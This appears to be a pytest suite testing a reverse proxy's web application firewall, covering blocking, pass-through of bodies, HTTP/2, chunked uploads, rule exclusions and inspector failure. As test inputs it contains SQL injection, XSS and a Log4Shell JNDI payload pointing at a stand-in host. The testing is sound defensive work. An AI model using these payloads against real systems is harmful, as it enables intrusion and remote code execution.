"""Requests that are inspected, judged at the backend and at the client: what the rules deny gets no further, what they let pass goes
on byte for byte, and where nobody inspects nothing passes unless somebody answers for it."""

from __future__ import annotations

import contextlib
import datetime as dt
import os
import shutil
import signal
import threading
import urllib.request
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest

from everyhop.demo.stage import free_port
from tests.kit import EdgeKit, Pki, Raw, exchange, tls
from tests.kit.clients import Answer, read_answer
from tests.kit.edge import until
from tests.kit.halt import halt
from tests.kit.inspector import built
from tests.kit.raw import OK, Record, whole
from tests.threats.frames import DATA, END_HEADERS, END_STREAM, HEADERS, Client, fields, frame
from tests.wire.test_http2 import Speaker, curl
from tools.metrics import ONLY_THERE, families

Edges = Callable[..., EdgeKit]
Raws = Callable[..., Raw]
GET = "GET / HTTP/1.1\r\nHost: a.test\r\nUser-Agent: tests\r\nAccept: */*\r\n\r\n"
ATTACK = GET.replace("GET /", "GET /?q=1%27%20OR%20%271%27=%271")
XSS = "q=<script>alert(1)</script>"
LATER = "since = 2026-11-01, until = 2027-06-01"

OWN = 'SecRule ARGS:word "@streq {name}" "id:101,phase:2,deny,status:403,log,msg:\'ours\'"\n'

pytestmark = pytest.mark.usefixtures("inspector")


@pytest.fixture(scope="module")
def inspector() -> None:
    built()


def waf(more: str = "") -> str:
    """With time for rules also where both cores are busy."""
    patient = "" if "deadline_ms" in more else "deadline_ms = 10000\n"
    return f'[[waf]]\nname = "crs"\n{patient}{more}\n'


def post(body: str, kind: str = "application/x-www-form-urlencoded", more: str = "", path: str = "/") -> str:
    lines = f"Host: a.test\r\nUser-Agent: tests\r\nAccept: */*\r\nContent-Type: {kind}\r\n{more}"
    return f"POST {path} HTTP/1.1\r\n{lines}Content-Length: {len(body)}\r\n\r\n{body}"


def answers(sock: object, record: Record) -> None:
    """Reads each request to its end, and answers."""
    while whole(sock, record) is not None:  # type: ignore[arg-type]
        sock.sendall(OK)  # type: ignore[attr-defined]


class Stage:
    """An edge with one route that is inspected, and its backend."""

    def __init__(
        self, edge: Edges, raw: Raws, pki: Pki, by: str = "", more: str = "", whole: str = "", listener: str = ""
    ) -> None:
        self.pki, self.raw = pki, raw(answers)
        route = f'[[route]]\nname = "r"\nhost = "a.test"\ntls = "plaintext"\nto = ["127.0.0.1:{self.raw.port}"]\n'
        self.text = waf(by) + f'{route}waf = "crs"\n{more}\n{whole}'
        self.edge = edge(self.text, listener=listener)

    def ask(self, request: str = GET) -> Answer:
        with tls(self.edge.port, "a.test", self.pki.public.file) as sock:
            return exchange(sock, request)

    def refused(self, status: int, slug: str, request: str) -> None:
        """It is, by the edge's own word, and the backend hears nothing of it."""
        mark = self.raw.mark()
        it = self.ask(request)
        assert (it.status, slug in it.text) == (status, True), f"{it.status} {it.text}"
        assert self.raw.since(mark) == []

    def told(self) -> list[dict[str, object]]:
        """What each line says of it, in order. Ends the edge."""
        return [line["waf"] for line in self.edge.all_lines()]

    def inspector_pid(self) -> int | None:
        told = self.edge.admin("status")["supervisor"]["inspector"]
        return told["pid"] if told else None


@pytest.fixture
def stage(edge: Edges, raw: Raws, pki: Pki) -> Callable[..., Stage]:
    return lambda by="", more="", whole="", listener="": Stage(edge, raw, pki, by, more, whole, listener)


class Lonely(Stage):
    """One whose inspector was killed, and whose program is gone."""

    program: Path
    original: Path
    status_port: int

    def metrics(self) -> str:
        with urllib.request.urlopen(f"http://127.0.0.1:{self.status_port}/metrics", timeout=20) as answer:
            return str(answer.read().decode())


@pytest.fixture
def lonely(edge: Edges, raw: Raws, pki: Pki, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[..., Lonely]:
    def start(by: str = "") -> Lonely:
        original = built()
        program = Path(shutil.copy2(original, tmp_path / "everyhop-waf"))
        monkeypatch.setenv("EVERYHOP_WAF", str(program))
        port = free_port()
        it = Lonely(edge, raw, pki, by, whole=f'[status]\nbind = "127.0.0.1:{port}"\n')
        it.program, it.original, it.status_port = program, original, port
        pid = it.inspector_pid()
        assert pid is not None
        program.unlink()
        os.kill(pid, signal.SIGKILL)
        until(lambda: it.edge.admin("status")["engine"]["wafs"][0]["inspector"] == "down")
        return it

    return start


def under_way(it: Stage, count: int) -> bool:
    return bool(it.edge.admin("status")["engine"]["wafs"][0]["under_way"] == count)


def troubled(it: Stage, kind: str) -> bool:
    return any(one["kind"] == kind for one in it.edge.admin("status")["supervisor"]["troubles"])


def test_what_the_rules_let_pass_goes_on_as_it_came(stage: Callable[..., Stage]) -> None:
    it = stage()
    assert it.ask().status == 200
    body = "&".join(f"a{n}={n}" for n in range(900))
    assert it.ask(post(body)).status == 200
    assert it.raw.received.endswith(body.encode()), "what was held goes on to the last byte"
    first, _ = it.told()
    assert first == {
        "by": "crs",
        "verdict": "allowed",
        "score": 0,
        "matched": 0,
        "rules": [],
        "duration_us": first["duration_us"],
    }


@pytest.mark.parametrize("request_", [ATTACK, post(XSS)], ids=["query", "body"])
def test_what_they_deny_gets_no_further_and_the_line_says_which_rules(
    stage: Callable[..., Stage], request_: str
) -> None:
    it = stage()
    it.refused(403, "waf/denied", request_)
    assert it.ask().status == 200
    lines = it.edge.all_lines()
    told = lines[0]["waf"]
    assert isinstance(told, dict) and told["verdict"] == "denied" and told["score"] >= 5
    assert told["matched"] >= len(told["rules"]) > 0
    assert any(one["on"].startswith("ARGS") for one in told["rules"]), told
    assert "alert" not in str(lines) and "%20OR" not in str(lines), "never what stood there"


@pytest.mark.parametrize("pattern", ["reencrypt", "mutual"])
def test_requests_are_inspected_over_every_hop(edge: Edges, raw: Raws, pki: Pki, pattern: str) -> None:
    clients = pki.internal.file if pattern == "mutual" else None
    to, own = raw(answers, pki.backend, clients=clients), 'present = "edge"\n' if pattern == "mutual" else ""
    verify = f'verify = {{ ca = "{{pki}}/internal-ca.pem", name = "backend.internal" }}\n{own}'
    route = f'[[route]]\nname = "r"\nhost = "a.test"\ntls = "{pattern}"\nto = ["127.0.0.1:{to.port}"]\n{verify}'
    it = edge(waf() + route + 'waf = "crs"\n')

    def ask(request: str) -> int:
        with tls(it.port, "a.test", pki.public.file) as sock:
            return exchange(sock, request).status

    assert [ask(request) for request in (GET, ATTACK, post(XSS), post("q=plain"))] == [200, 403, 403, 200]
    assert to.received.count(b" HTTP/1.1\r\n") == 2 and to.received.endswith(b"q=plain")


def test_of_http2_each_request_is_inspected_by_itself_and_its_body_goes_on_whole(
    stage: Callable[..., Stage], pki: Pki
) -> None:
    it = stage()
    agent = [("user-agent", "tests"), ("accept", "*/*")]
    form = [*agent, ("content-type", "application/x-www-form-urlencoded"), ("content-length", "18002")]
    with Speaker(it.edge, pki) as client:
        good = client.headers(*form, method="POST", end=False)
        bad = client.headers(*agent, path="/?q=%3Cscript%3Ealert(1)%3C/script%3E")
        assert client.outcome(bad) == "403", "one that is held holds up no other"
        client.h2.send_data(good, b"a=" + b"b" * 9000)
        client.flush()
        client.h2.send_data(good, b"c" * 9000, end_stream=True)
        client.flush()
        assert client.outcome(good) == "200"
    assert it.raw.received.endswith(b"b" * 9000 + b"c" * 9000)


def test_a_body_of_http2_that_is_larger_than_its_window_is_held_and_goes_on(
    stage: Callable[..., Stage], tmp_path: Path
) -> None:
    it = stage("body_bytes = 1048576\ndeadline_ms = 10000")
    body = "b" * 300_000
    (file := tmp_path / "body").write_text(body)
    # Of a file that is uploaded no rule reads the content.
    done = curl(it.edge, "--http2", "-F", f"file=@{file}", "-w", "%{http_code}", f"https://a.test:{it.edge.port}/")
    assert done.stdout.endswith(b"200"), done
    assert body.encode() in it.raw.received


def test_other_methods_and_calls_of_grpc_pass_where_the_set_is_told_of_them_and_not_else(
    stage: Callable[..., Stage], tmp_path: Path
) -> None:
    (own := tmp_path / "own.conf").write_text(
        """SecAction "id:100,phase:1,pass,nolog,setvar:'tx.allowed_methods=GET HEAD POST OPTIONS PUT PATCH DELETE'"\n"""
    )
    put = post('{"a":"b"}', "application/json").replace("POST", "PUT")
    call = post("\0\0\0\0\0", "application/grpc", "TE: trailers\r\n", "/a.B/C")
    before = stage()
    before.refused(403, "waf/denied", put)
    before.refused(403, "waf/denied", call)
    it = stage(f'extra = ["{own}"]')
    assert it.ask(put).status == 200
    it.refused(403, "waf/denied", put.replace('"b"', '"<script>alert(1)</script>"'))


def test_a_body_in_chunks_goes_on_as_it_came_and_who_waits_to_be_asked_for_it_is(stage: Callable[..., Stage]) -> None:
    # By its own word of Expect the rule set refuses each that waits to be asked: 920450.
    it = stage(f'exclude = [{{ rule = 920450, owner = "o", why = "w", {LATER} }}]')
    head_ = post("", more="Transfer-Encoding: chunked\r\nExpect: 100-continue\r\n").replace("Content-Length: 0\r\n", "")
    with tls(it.edge.port, "a.test", it.pki.public.file) as sock:
        sock.sendall(head_.encode())
        assert sock.recv(100).startswith(b"HTTP/1.1 100 ")
        sock.sendall(b"5\r\na=b&c\r\n")
        sock.sendall(b"2\r\n=d\r\n0\r\n\r\n")
        assert read_answer(sock).status == 200
    until(lambda: it.raw.received.endswith(b"0\r\n\r\n"))
    assert it.raw.received.partition(b"\r\n\r\n")[2].replace(b"\r\n", b"") == b"7a=b&c=d0", "in one piece: it was held"
    with tls(it.edge.port, "a.test", it.pki.public.file) as sock:
        sock.sendall(head_.encode())
        assert sock.recv(100).startswith(b"HTTP/1.1 100 ")
        body = XSS.encode()
        sock.sendall(b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body))
        assert read_answer(sock).status == 403


def test_who_waits_over_http2_to_send_its_body_is_asked_for_it_before_it_is_inspected(
    stage: Callable[..., Stage], pki: Pki
) -> None:
    it = stage(f'exclude = [{{ rule = 920450, owner = "o", why = "w", {LATER} }}]')
    with tls(it.edge.port, "a.test", pki.public.file, alpn=["h2"]) as sock:
        sock.settimeout(20)
        client = Client(sock)
        form = (b"content-type", b"application/x-www-form-urlencoded")
        usual = [(b"user-agent", b"Mozilla/5.0"), (b"accept", b"*/*"), form, (b"content-length", b"3")]
        asks = fields("a.test", *usual, (b"expect", b"100-continue"), method=b"POST", path=b"/")
        client.send(frame(HEADERS, asks, flags=END_HEADERS, stream=1))
        assert client.outcome(1) == "100"
        del client.statuses[1]
        client.send(frame(DATA, b"a=b", flags=END_STREAM, stream=1))
        assert client.whole(1) == "200"


@pytest.mark.parametrize("more", ["", "Transfer-Encoding: chunked\r\n"], ids=["of known length", "in chunks"])
def test_a_body_longer_than_is_inspected_is_refused(stage: Callable[..., Stage], more: str) -> None:
    it = stage("body_bytes = 100")
    assert it.ask(post("a=" + "b" * 98)).status == 200, "to the last byte"
    longer = post("a=" + "b" * 99)
    if more:
        first, _, body = longer.partition("\r\n\r\n")
        first = first.replace("Content-Length: 101\r\n", "").replace("Content-Length: 101", "").rstrip()
        longer = f"{first}\r\n{more}\r\n65\r\n{body}\r\n0\r\n\r\n"
    it.refused(413, "waf/body-too-long", longer)


def test_of_a_longer_body_the_beginning_is_inspected_where_that_is_said_and_all_of_it_goes_on(
    stage: Callable[..., Stage],
) -> None:
    it = stage('body_bytes = 100\nover_body = "pass-inspected"')
    body = "a=" + "b" * 300_000 + "&" + XSS
    assert it.ask(post(body)).status == 200, "what stands behind the beginning is seen by no rule"
    assert it.raw.received.endswith(body.encode())
    it.refused(403, "waf/denied", post(XSS + "&b=" + "c" * 300))


def test_one_that_its_route_does_not_name_inspects_nothing(edge: Edges, raw: Raws, pki: Pki) -> None:
    to = raw(answers)
    where = f'tls = "plaintext"\nto = ["127.0.0.1:{to.port}"]\n'
    routes = (
        f'[[route]]\nname = "r"\nhost = "a.test"\n{where}waf = "crs"\n[[route]]\nname = "s"\nhost = "b.test"\n{where}'
    )
    it = edge(waf() + routes)
    with tls(it.port, "b.test", pki.public.file) as sock:
        assert exchange(sock, ATTACK.replace("a.test", "b.test")).status == 200
    assert it.all_lines()[-1]["waf"] is None


EXCLUDED = f'{{ rule = 942100, path = "/free", argument = "q", owner = "o", why = "w", {LATER} }}'


def test_a_rule_that_is_taken_back_is_not_asked_there_and_is_everywhere_else(stage: Callable[..., Stage]) -> None:
    it = stage(f"exclude = [{EXCLUDED}]")
    assert it.ask(ATTACK.replace("GET /", "GET /free")).status == 200
    it.refused(403, "waf/denied", ATTACK)
    it.refused(403, "waf/denied", ATTACK.replace("GET /?q", "GET /free?r"))


def test_a_rule_is_asked_again_once_the_word_against_it_is_over(stage: Callable[..., Stage]) -> None:
    soon = dt.datetime.now(dt.UTC) + dt.timedelta(seconds=20)
    it = stage(f"exclude = [{EXCLUDED.replace('until = 2027-06-01', f'until = {soon:%Y-%m-%dT%H:%M:%SZ}')}]")
    asks = ATTACK.replace("GET /", "GET /free")
    assert it.ask(asks).status == 200 or dt.datetime.now(dt.UTC) > soon
    until(lambda: it.ask(asks).status == 403, 60)
    assert dt.datetime.now(dt.UTC) >= soon.replace(microsecond=0)


def test_a_file_of_rules_that_changes_is_asked_and_one_that_breaks_leaves_those_that_were_good(
    stage: Callable[..., Stage], tmp_path: Path
) -> None:
    rules = tmp_path / "own.conf"
    rules.write_text(OWN.format(name="one"))
    it = stage(f'extra = ["{rules}"]')
    it.refused(403, "waf/denied", GET.replace("GET /", "GET /?word=one"))
    assert it.ask(GET.replace("GET /", "GET /?word=two")).status == 200
    rules.write_text(OWN.format(name="two"))
    until(lambda: it.ask(GET.replace("GET /", "GET /?word=two")).status == 403)
    assert it.ask(GET.replace("GET /", "GET /?word=one")).status == 200
    rules.write_text("SecRule ARGS")
    until(lambda: troubled(it, "renewal-refused"))
    it.refused(403, "waf/denied", GET.replace("GET /", "GET /?word=two"))


def test_requests_of_all_the_time_pass_while_rules_change(stage: Callable[..., Stage]) -> None:
    it = stage()
    ends, found = threading.Event(), []

    def ask() -> None:
        while not ends.is_set():
            found.append(it.ask().status)

    askers = [threading.Thread(target=ask) for _ in range(2)]
    for one in askers:
        one.start()
    for paranoia in (2, 1, 3, 1):
        assert it.edge.reload(it.text.replace('name = "crs"\n', f'name = "crs"\nparanoia = {paranoia}\n', 1))[
            "reloaded"
        ]
    assert it.edge.admin("upgrade")["upgraded"]
    many = len(found)
    until(lambda: len(found) > many + 5)
    ends.set()
    for one in askers:
        one.join()
    assert set(found) == {200}


def test_an_inspector_that_is_killed_is_followed_by_another_and_nothing_passes_meanwhile(
    stage: Callable[..., Stage],
) -> None:
    it = stage()
    assert it.ask().status == 200
    before = it.inspector_pid()
    assert before is not None
    os.kill(before, signal.SIGKILL)
    until(lambda: it.ask(ATTACK).status == 403 and it.inspector_pid() not in (None, before), 90)
    assert it.ask().status == 200
    it.refused(403, "waf/denied", ATTACK)


def test_where_nobody_inspects_nothing_passes_and_it_is_told_until_somebody_does(lonely: Callable[..., Lonely]) -> None:
    it = lonely()
    it.refused(503, "waf/down", GET)
    until(lambda: troubled(it, "inspector-down"))
    shown = it.edge.cli("status", "--config", str(it.edge.config)).stdout
    assert "INSPECTOR DOWN" in shown and "waf crs" in shown
    text = it.metrics()
    assert '\neveryhop_waf_requests_total{waf="crs",verdict="down"} 1\n' in text
    assert "\neveryhop_waf_inspector_up 0\n" in text
    shutil.copy2(it.original, it.program)
    until(lambda: it.ask().status == 200, 120)
    it.refused(403, "waf/denied", ATTACK)
    text = it.metrics()
    assert "\neveryhop_waf_inspector_up 1\n" in text
    until(lambda: not troubled(it, "inspector-down"))
    told = {name: found.labels for name, found in families(text).items() if name in ONLY_THERE and found.labels}
    assert told == {name: labels for name, labels in ONLY_THERE.items() if "_waf_" in name}, "as the reference has it"


def test_where_somebody_answers_for_it_requests_pass_uninspected_and_each_is_an_alarm(
    lonely: Callable[..., Lonely],
) -> None:
    it = lonely(f'when_down = "pass"\npass_acceptance = {{ owner = "o", why = "w", {LATER} }}')
    assert it.ask(ATTACK).status == 200
    line = it.edge.all_lines()[-1]
    assert line["waf"]["verdict"] == "passed-uninspected" and line["alarms"] == ["passed_uninspected"]


def test_one_that_says_nothing_makes_requests_late_and_is_followed_by_another(stage: Callable[..., Stage]) -> None:
    passes = f'when_down = "pass"\npass_acceptance = {{ owner = "o", why = "w", {LATER} }}'
    it = stage(f"deadline_ms = 200\n{passes}")
    before = it.inspector_pid()
    assert before is not None
    halt(before)
    it.refused(503, "waf/late", GET)
    until(lambda: it.inspector_pid() not in (None, before), 60)
    until(lambda: it.ask(ATTACK).status == 403)


def test_more_than_may_be_inspected_at_once_are_refused_and_those_before_are_not(stage: Callable[..., Stage]) -> None:
    it = stage("at_once = 1\ndeadline_ms = 10000")
    pid = it.inspector_pid()
    assert pid is not None
    halt(pid)
    with tls(it.edge.port, "a.test", it.pki.public.file) as first:
        first.sendall(GET.encode())
        until(lambda: under_way(it, 1))
        it.refused(503, "waf/too-many-at-once", GET)
        os.kill(pid, signal.SIGCONT)
        assert read_answer(first).status == 200


def test_one_address_has_a_part_of_what_is_inspected_at_once_and_the_others_have_theirs(
    stage: Callable[..., Stage],
) -> None:
    it = stage("at_once = 4\ndeadline_ms = 10000", listener='trusted_proxies = ["127.0.0.1/32"]')
    pid = it.inspector_pid()
    assert pid is not None
    halt(pid)
    by = [GET.replace("\r\n\r\n", f"\r\nX-Forwarded-For: 192.0.2.{n}\r\n\r\n") for n in range(3)]
    with contextlib.ExitStack() as stack:
        held = [stack.enter_context(tls(it.edge.port, "a.test", it.pki.public.file)) for _ in by]
        for n, sock in enumerate(held):
            sock.sendall(by[n].encode())
            until(partial(under_way, it, n + 1))
            it.refused(503, "waf/too-many-at-once", by[n])
        os.kill(pid, signal.SIGCONT)
        assert [read_answer(sock).status for sock in held] == [200, 200, 200]


def test_a_client_that_leaves_is_not_waited_for(stage: Callable[..., Stage]) -> None:
    it = stage("deadline_ms = 10000")
    pid = it.inspector_pid()
    assert pid is not None
    halt(pid)
    with tls(it.edge.port, "a.test", it.pki.public.file) as sock:
        sock.sendall(GET.encode())
        until(lambda: it.edge.admin("status")["engine"]["wafs"][0]["under_way"] == 1)
    until(lambda: it.edge.admin("status")["engine"]["wafs"][0]["counted"]["client-left"] == 1)
    os.kill(pid, signal.SIGCONT)
    assert it.raw.received == b""


def test_a_supervisor_that_comes_again_finds_the_engine_inspecting_and_goes_on(stage: Callable[..., Stage]) -> None:
    it = stage()
    it.refused(403, "waf/denied", ATTACK)
    before = it.inspector_pid()
    it.edge.edge.process.kill()
    it.edge.edge.process.wait(10)
    assert it.ask().status == 200
    it.refused(403, "waf/denied", ATTACK)
    it.edge.edge = type(it.edge.edge)(it.edge.config)
    it.edge.edge.wait_for("ready:", 60)
    assert it.ask().status == 200
    it.refused(403, "waf/denied", ATTACK)
    # Nothing is left of the inspector that the one before had, but what its parent of now has not heard of yet.
    assert it.inspector_pid() not in (None, before)
    until(lambda: not Path(f"/proc/{before}/exe").exists(), 30)


@pytest.mark.parametrize("more", ["", "Transfer-Encoding: chunked\r\n"], ids=["of known length", "in chunks"])
def test_what_is_switched_to_another_protocol_was_inspected_first_its_body_too(
    stage: Callable[..., Stage], more: str
) -> None:
    it = stage(more='upgrades = ["tcp"]')
    switch = f"Connection: upgrade\r\nUpgrade: tcp\r\n{more}"
    it.refused(403, "waf/denied", ATTACK.replace("\r\n\r\n", "\r\nConnection: upgrade\r\nUpgrade: tcp\r\n\r\n"))
    whole_ = post(XSS, more=switch)
    if more:
        whole_ = post("", more=switch).replace("Content-Length: 0\r\n", "") + f"{len(XSS):x}\r\n{XSS}\r\n0\r\n\r\n"
    it.refused(403, "waf/denied", whole_)


def test_what_stands_behind_a_body_is_inspected_as_a_field_and_goes_on(stage: Callable[..., Stage]) -> None:
    it = stage()

    def with_trailer(value: str) -> str:
        head_ = post("", more="Transfer-Encoding: chunked\r\nTrailer: X-Api\r\n").replace("Content-Length: 0\r\n", "")
        return f"{head_}3\r\na=b\r\n0\r\nX-Api: {value}\r\n\r\n"

    assert it.ask(with_trailer("plain")).status == 200
    until(lambda: b"X-Api: plain" in it.raw.received or b"x-api: plain" in it.raw.received)
    it.refused(403, "waf/denied", with_trailer("${jndi:ldap://evil.test/a}"))


def test_rules_that_only_detect_refuse_nothing_and_what_they_would_is_told(stage: Callable[..., Stage]) -> None:
    it = stage('mode = "detect"')
    assert it.ask(post(XSS)).status == 200
    assert it.raw.received.endswith(XSS.encode())
    until(lambda: "waf/would-deny" in it.edge.log.read_text())
    own, beside = sorted(it.edge.all_lines(), key=lambda line: str(line["end"]))
    assert own["id"] == beside["id"] and own["status"] == 200 and own["waf"] is None
    assert beside["waf"]["verdict"] == "would-deny" and beside["waf"]["score"] >= 5
